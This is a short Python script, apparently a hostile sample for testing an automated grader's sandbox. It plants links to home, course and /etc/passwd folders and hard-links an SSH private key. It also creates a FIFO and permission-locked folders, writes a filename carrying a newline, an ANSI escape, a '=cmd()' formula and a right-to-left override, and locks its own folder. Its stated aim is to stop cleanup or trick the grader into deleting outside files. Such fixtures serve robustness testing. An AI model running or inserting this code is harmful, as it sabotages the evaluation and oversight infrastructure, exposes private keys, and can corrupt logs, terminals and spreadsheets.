"""Leaves in its own folder what is hard to clear away: unreadable folders, links out, pipes, files without end of name.

Harm: the grader cannot clear up, or follows a link and deletes what is outside.
Costs: nothing
"""

# %% honest work
# %% hostile
import os

for act in (
    lambda: os.symlink("/deltarule-stage/home", "pwned-link-home"),
    lambda: os.symlink("/deltarule-stage/course", "pwned-link-course"),
    lambda: os.symlink("/etc/passwd", "pwned-link-passwd"),
    lambda: os.link("/deltarule-stage/home/.ssh/id_ed25519", "pwned-hard-link"),
    lambda: os.mkfifo("pwned-fifo"),
    lambda: os.mkdir("pwned-locked"),
    lambda: os.mkdir("pwned-locked/inner"),
    lambda: open("pwned-locked/inner/file", "w").close(),
    lambda: os.chmod("pwned-locked", 0),
    lambda: open("pwned-\n\x1b[31m=cmd()\u202e" + "x" * 200, "w").close(),
    lambda: os.chmod(".", 0),
):
    try:
        act()
    except OSError:
        pass
